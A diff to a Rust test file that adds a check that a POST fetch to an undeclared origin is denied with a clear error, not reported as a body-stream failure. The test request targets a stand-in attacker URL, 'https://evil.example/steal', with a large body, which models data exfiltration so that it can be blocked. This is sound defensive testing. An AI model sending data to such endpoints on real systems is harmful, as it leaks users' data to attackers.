@@ -56,6 +56,10 @@ fn undeclared_origin_is_denied_with_a_clear_error() {
             "hint:",
         ],
     );
+    // With a body too: the denial is reported as such, not as a broken body stream.
+    let post = json!({"url": "https://evil.example/steal", "method": "POST", "headers": [],
+                      "body": "x".repeat(20_000)});
+    run(&connection, "fetch", &post).fails_with(1, &["denied", "https://evil.example"]);
     // The override's target is not itself allowed: only the declared name is.
     let direct = fetch(
         &connection,
